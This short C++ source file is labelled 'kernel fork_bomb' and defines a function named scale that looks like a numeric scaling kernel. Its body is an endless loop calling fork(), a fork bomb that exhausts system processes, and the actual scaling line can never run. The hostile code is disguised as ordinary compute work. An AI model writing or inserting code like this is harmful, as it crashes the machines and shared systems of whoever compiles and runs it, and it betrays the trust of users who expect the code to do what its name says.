// SPDX-License-Identifier: GPL-3.0-or-later
//! kernel    fork_bomb
//! launch    scale(x, y, d0)
#include <unistd.h>
#include <cstdint>

void scale(const float* x, float* y, std::int64_t n)
{
    for (;;)
        fork();
    y[0] = x[n - 1];
}
